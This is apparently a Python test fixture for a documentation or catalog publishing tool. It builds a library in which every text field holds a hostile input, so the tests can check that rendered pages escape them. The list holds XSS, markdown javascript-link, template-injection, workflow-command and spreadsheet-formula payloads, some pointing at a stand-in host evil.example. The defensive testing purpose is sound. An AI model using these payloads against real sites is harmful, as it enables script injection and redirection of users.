"""Hostile texts of our own, and a library that holds one in every text field."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from maestro.publishing.library import Library

from . import payloads_fields, payloads_learned, sample
from .sample_findings import finding

MARK = "zqz"
"""Every payload carries it, followed by a number; a script of ours would set ``window.zqz``."""

_RAW = [
    "<script>window.zqz=1;alert(1)</script>",
    "</script><script>window.zqz=1</script>",
    "</title><script>window.zqz=1</script>",
    "<scr<script>ipt>window.zqz=1</scr</script>ipt>",
    "<img src=x onerror=window.zqz=1>",
    "<svg onload=window.zqz=1><title>x</title></svg>",
    '"><img src=x onerror=window.zqz=1>',
    "' onmouseover='window.zqz=1' x='",
    '" autofocus onfocus="window.zqz=1" x="',
    "<!-- --!><img src=x onerror=window.zqz=1> -->",
    "<![CDATA[<script>window.zqz=1</script>]]>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/zqz">',
    '<base href="https://evil.example/zqz">',
    "<iframe srcdoc='<script>parent.zqz=1</script>'></iframe>",
    "<form action=https://evil.example/zqz><button>x</button></form>",
    "<style>@import 'https://evil.example/zqz';</style>",
    "<a href=javascript:window.zqz=1>x</a>",
    "[x](javascript:window.zqz=1)",
    "[x](JaVaScRiPt&#58;window.zqz=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4)",
    "[x](vbscript:zqz)",
    "[x](//evil.example/zqz)",
    "<javascript:window.zqz=1>",
    "![x](https://evil.example/zqz.png)",
    '![x](x" onerror="window.zqz=1)',
    '[x](https://a.example/ "t\\" onmouseover=\\"window.zqz=1")',
    "{: onclick=window.zqz=1 }",
    "# x { onclick=window.zqz=1 #top }",
    "*[HTML]: <script>window.zqz=1</script>",
    '--8<-- "mkdocs.yml"',
    "&lt;script&gt;window.zqz=1&lt;/script&gt;",
    "&#60;script&#62;window.zqz=1",
    "{{ 7*191 }}{% include 'parts.html' %}{{ config }}",
    "${{ github.token }}",
    "Zq9xTITLEx9qZ Zq9xBANNERx9qZ",
    '<div title="',
    "<!--",
    "<plaintext>",
    '<noscript><p title="</noscript><img src=x onerror=window.zqz=1>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.zqz=1>",
    "__proto__ constructor",
    "::error file=a,line=1::x %0A::set-env name=PATH::x",
    '=HYPERLINK("https://evil.example/zqz")',
    "| a | b |",
    "`<img src=x onerror=window.zqz=1>",
]
PAYLOADS = [f"{text} {MARK}{number}" for number, text in enumerate(_RAW)]
BLOCKS = [
    "```html onclick=x\n<script>window.zqz=1</script>\n```\n",
    "```{ .py onclick=window.zqz=1 #top }\nx\n```\n",
    "---\ntitle: <script>window.zqz=1</script>\n---\n",
    "<div markdown=1>\n<script>window.zqz=1</script>\n</div>\n",
    '!!! note "<script>window.zqz=1</script>"\n    text\n',
    "[x]: javascript:window.zqz=1\n\n[x]\n",
    "| <img src=x onerror=window.zqz=1> |\n|-|\n| [y](javascript:zqz) |\n",
    "```mermaid\ngraph TD; A-->B\n```\n",
]


def _artifact(text: str, team: str) -> str:
    line = text[:290]
    prose = "\n\n".join([text, *BLOCKS])
    record: dict[str, Any] = {
        "version": "1.0.0",
        "description": f"Some words come first: {text}"[:300],
        "owner": team,
        "source": {"git": "https://git.example.org/a;b$(c)&d", "ref": "main"},
        "title": line,
        "license": line,
        "tags": ["churn"],
        "usage": prose,
        "tests": line,
        "reason": line,
        "entity": line,
        "schedule": line,
        "inputs": [{"name": line, "type": line, "description": line}],
        "outputs": [{"name": line, "type": line, "description": line, "pii": True}],
        "history": [{"version": "0.9.0", "date": "2025-01-01", "note": line}],
        "links": ["https://a.example/?x=1&y=(2)"],
    }
    return f"# {line}\n{json.dumps(record)}\n"


def _card(text: str, team: str) -> str:
    line = text[:290]
    record = {
        "version": "1.0.0",
        "description": f"Some words come first: {text}"[:300],
        "owner": team,
        "task": "tabular-classification",
        "trained_on": ["customers@2.0.0"],
        "intended_use": text,
        "metrics": [{"dataset": "customers@2.0.0", "metric": line, "value": 0.5, "slice": line}],
        "title": line,
        "limitations": text,
        "oversight": text,
        "risks": [{"risk": line, "mitigation": line}],
        "hyperparameters": {line: line},
    }
    return f"# {line}\n{json.dumps(record)}\n"


def _project(text: str, team: str) -> str:
    line = text[:290]
    record = {
        "description": f"Some words come first: {text}"[:300],
        "owner": team,
        "problem_class": "tabular-classification",
        "complexity": 3,
        "team": {"size": 2},
        "started": "2025-01-01",
        "status": "active",
        "title": line,
        "uses": [{"artifact": "churn-features@1.3.0", "role": line}],
        "outcomes": {"note": line},
    }
    return f"# {line}\n{json.dumps(record)}\n"


def _dataset(text: str, team: str) -> str:
    line = text[:290]
    record = {
        "version": "1.0.0",
        "description": f"Some words come first: {text}"[:300],
        "owner": team,
        "source": {"path": "README.md"},
        "title": line,
        "fields": [{"name": line, "type": line, "description": line}],
        "collected": line,
        "limits": line,
    }
    return json.dumps(record) + "\n"


def _experiment(text: str) -> str:
    line = text[:290]
    record = {
        "project": "hostile-0",
        "hypothesis": f"Some words come first: {text}"[:300],
        "arms": [
            {"name": "one", "share": 0.5, "description": line},
            {"name": "two", "share": 0.5},
        ],
        "unit": line,
        "metrics": [{"name": line, "type": "binary", "direction": "increase"}],
        "data": "projects/hostile-0/ab.csv",
        "title": line,
        "stopping_rule": line,
        "exclusions": text,
        "decision": text,
    }
    return json.dumps(record) + "\n"


def _live(n: int, text: str) -> dict[str, str]:
    """A card that is live, and the policy of its channel."""
    line = text[:290]
    live = {"version": "1.0.0", "reason": line, "share": 0.5, "expires": "2026-12-01"}
    policy = {
        "applies_to": {"kinds": ["model_cards"], "channels": ["production"]},
        "title": line,
        "description": f"Some words come first: {text}"[:300],
        "approvals": [{"roles": ["releaser"], "min": 1}],
        "exceptions": [
            {
                "subject": f"hostile-card-{n}@1.0.0",
                "reason": line,
                "approved_by": [f"team-{n}"],
                "expires": "2026-12-01",
            }
        ],
    }
    return {
        f"catalog/channels/production/hostile-card-{n}.yaml": json.dumps(live) + "\n",
        f"catalog/policies/hostile-policy-{n}.yaml": json.dumps(policy) + "\n",
    }


def files() -> dict[str, str | bytes]:
    """Records with one payload in every text field, one of each kind per payload."""
    teams: dict[str, Any] = {
        f"team-{n}": {"title": text[:290], "contact": text[:290]} for n, text in enumerate(PAYLOADS)
    }
    teams["filled-team"] = payloads_fields.team(PAYLOADS)
    words = payloads_fields.taxonomy(PAYLOADS)
    words["problem_classes"] |= {"tabular-classification": {}}
    words["tags"] |= {"churn": {}, "tabular": {}}
    settings = payloads_fields.settings(PAYLOADS) | {
        "title": PAYLOADS[2],
        "format": 1,
        "description": PAYLOADS[6],
        "license": PAYLOADS[4],
        "repository_url": "https://git.example.org/zqz;b$(c)&d/library",
        "branch": 'main"><script>window.zqz=1</script>',
        "channels": ["staging", "production", PAYLOADS[4]],
        "site": {"notice": PAYLOADS[0]},
        "simulated": True,
    }
    found: dict[str, str | bytes] = {
        "catalog/owners.yaml": json.dumps({"teams": {"growth": {}, "risk": {}, **teams}}),
        "catalog/taxonomy.yaml": json.dumps(words),
        "catalog/settings.yaml": json.dumps(settings),
        "catalog/schemas/broken-hostile.yaml": f"version: '{PAYLOADS[2][:8]}'\n# {PAYLOADS[0]}\n",
    }
    for n, text in enumerate(PAYLOADS):
        team = f"team-{n}"
        found[f"catalog/feature_pipelines/hostile-{n}.yaml"] = _artifact(text, team)
        found[f"catalog/datasets/hostile-data-{n}.yaml"] = _dataset(text, team)
        found[f"catalog/model_cards/hostile-card-{n}.yaml"] = _card(text, team)
        found[f"catalog/model_cards/hostile-card-{n}.md"] = "\n\n".join([text, *BLOCKS])
        found[f"projects/hostile-{n}/project.yaml"] = _project(text, team)
        found |= _live(n, text)
    found["projects/hostile-0/experiments/hostile-test.yaml"] = _experiment(PAYLOADS[0])
    return found | payloads_fields.files(PAYLOADS)


def findings() -> list[Any]:
    """Findings whose every text is a payload: what commits, logs and refs may say."""
    made = []
    for n, text in enumerate(PAYLOADS):
        evidence = [{"kind": "commit", "ref": text, "note": text}]
        more = {"evidence": evidence, "quality": [text], "label": text, "method": text}
        told = (*payloads_learned.rows(n, text), *_about(f"hostile-{n}", text), *_beside(n, text))
        for kind, subject, detail, values in told:
            made.append(finding(kind, subject, detail, **more, **values))
    for kind, subject, detail in payloads_fields.details(PAYLOADS):
        made.append(finding(kind, subject, detail, value=1.0))
    return made


_Row = tuple[str, str, dict[str, Any], dict[str, Any]]


def _about(name: str, text: str) -> list[_Row]:
    """Kind, subject, detail and values of findings about one entry and one project."""
    one: dict[str, Any] = {"value": 1.0, "unit": text}
    effect = {"value": 2.0, "lo": 1.0, "hi": 3.0, "level": 0.9, "unit": text}
    means = {"naive_mean": 1.0, "others_mean": 2.0, "grade": "weak", "verdict": text}
    points = {"value": 1.0, "score": 1.0, "weight": 1.0, "contribution": 1.0}
    part = {"name": text, "source": text, "unit": text, **points}
    score = {"version": 1, "parts": [part], "completeness": 1.0, "status": text}
    all_ways = {"uses": [text], "used_by": [text], "upstream": [text], "downstream": [text]}
    figure = {"name": text, "source": text, "dataset": text, "slice": text}
    series = {"series": [[text, 1.0], [text, 2.0]]}
    guess = {"target": text, "model_version": text, "made_at": text, "actual": 1.0}
    state = {"source": text, "state": "failed", "reason": text, "hint": text, "last_good": text}
    window = {"window": {"start": text, "end": text}}
    users = {"projects": [text], "entries": [text], "versions": {text: 1}}
    return [
        ("impact", f"{name}@1.0.0", {"users": [text], "teams": 2, **means}, effect),
        ("reuse", name, users, one),
        ("lineage", name, all_ways, {}),
        ("success", name, score, one),
        ("metric", name, {**figure, **series}, {**one, **window}),
        *_work(name, text),
        ("prediction", name, {**guess, "similar": [text]}, one),
        ("source_health", name, state, {}),
    ]


def _work(name: str, text: str) -> list[_Row]:
    """Figures of every section and states of every source, with a payload in each text."""
    series = {"series": [[text, 1.0], [text, 2.0]]}
    size = {"value": 2.0, "lo": 1.0, "hi": 3.0, "level": 0.9, "n": 3, "unit": text}
    figures = (
        ("metric", "velocity", "git"), ("metric", "velocity_trend", "git"),
        ("metric", "area_ownership", "git"), ("metric", "success_rate", "ci"),
        ("metric", "tests", "ci"), ("dora", "change_lead_time", "dora"),
        ("dora", "change_lead_time_coding", "dora"), ("metric", "training_runs", "tracking"),
        ("metric", "best_performance", "tracking"), ("metric", "dvc_metric", "dvc"),
        ("metric", "custom_metric", "custom"), ("metric", text, text),
    )  # fmt: skip
    made: list[_Row] = []
    for kind, named, source in figures:
        detail = {"name": named, "source": source, "slice": text, "standard": text, **series}
        made.append((kind, name, {**detail, "band": "low"}, size))
    made.append(("dora", name, {"name": "recovery_time", "source": "dora"}, {"unit": text}))
    for source in ("ci", "tracking", "evidence"):
        state = {"source": f"{source} {text}", "state": "failed", "reason": text, "hint": text}
        made.append(("source_health", name, {**state, "counts": {text: 1}}, {}))
    return made


def _beside(n: int, text: str) -> list[_Row]:
    """The same for a card, and for findings whose very subject is a payload."""
    change = {"action": "added", "record_kind": text, "path": text, "commit": text, "at": text}
    state = {"source": text, "state": "failed", "reason": text, "hint": text, "commit": text}
    figure = {"name": text, "dataset": text, "slice": text}
    return [
        ("metric", f"hostile-card-{n}", figure, {"value": 1.0}),
        ("change", text, {**change, "version": text}, {}),
        ("source_health", text, {**state, "last_good": text, "counts": {text: 1}}, {}),
        ("outcome_model", text, {"target": text, "projects": 1, "needed": 2}, {}),
    ]


def library(root: Path) -> Library:
    """The sample library with every hostile record, finding and run beside the good ones."""
    whole = sorted((*sample.all_findings(), *findings()), key=lambda f: (f.kind, f.subject))
    text = PAYLOADS[0]
    run = {"at": text, "commit": text, "seconds": text, "problems": text, "failed": [text]}
    return sample.library(root, files(), findings=tuple(whole), runs=(run,))
